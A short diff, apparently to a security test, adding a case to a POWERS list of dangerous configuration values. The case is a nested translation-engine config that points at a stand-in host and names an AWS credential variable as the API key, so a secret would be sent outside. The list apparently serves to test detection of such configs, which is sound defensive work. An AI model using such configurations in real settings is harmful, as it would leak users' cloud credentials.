@@ -106,6 +106,8 @@ POWERS = [
     "annotate: {own: [evil.py]}",
     TRANSLATE
     + "{to: [fra_Latn], engine: {kind: openai, model: m, args: {base_url: 'http://e.x', api_key_variable: AWS}}}",
+    TRANSLATE + "{to: [por_Latn], second_look: {round_trip: {engine: "
+    "{kind: openai, model: m, args: {base_url: 'http://e.x', api_key_variable: AWS}}}}}",
 ]
 
 HOSTILE = {
